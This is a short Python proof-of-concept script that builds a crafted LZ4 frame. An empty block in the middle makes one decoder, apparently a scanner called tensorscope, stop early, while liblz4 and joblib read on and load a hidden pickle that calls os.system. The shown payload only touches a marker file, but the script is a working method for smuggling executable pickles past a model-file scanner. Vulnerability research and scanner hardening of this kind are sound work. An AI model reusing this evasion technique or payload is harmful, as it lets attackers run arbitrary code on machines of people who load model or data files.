# LZ4 frame with an empty uncompressed block (size word 0x80000000) in the middle:
# liblz4 (python lz4.frame / joblib) continues with the next block; lz4_flex's Read returns 0
# at the empty block, tensorscope's decode_frame takes that as the end of the frame.
import lz4.frame, struct, pickle, sys
out = sys.argv[1]
hdr = lz4.frame.compress(b"", block_linked=False, content_checksum=False, store_size=False, block_size=lz4.frame.BLOCKSIZE_MAX64KB)[:7]
def ublock(b): return struct.pack("<I", 0x80000000 | len(b)) + b
prefix = b"\x80\x02"
hidden = b"cos\nsystem\n(Vtouch /tmp/r36b/PWNED_lz4empty\ntR0"
rest = b"N."
frame1 = hdr + ublock(prefix) + struct.pack("<I", 0x80000000) + ublock(hidden) + b"\0\0\0\0"
frame2 = hdr + ublock(rest) + b"\0\0\0\0"
open(out, "wb").write(frame1 + frame2)
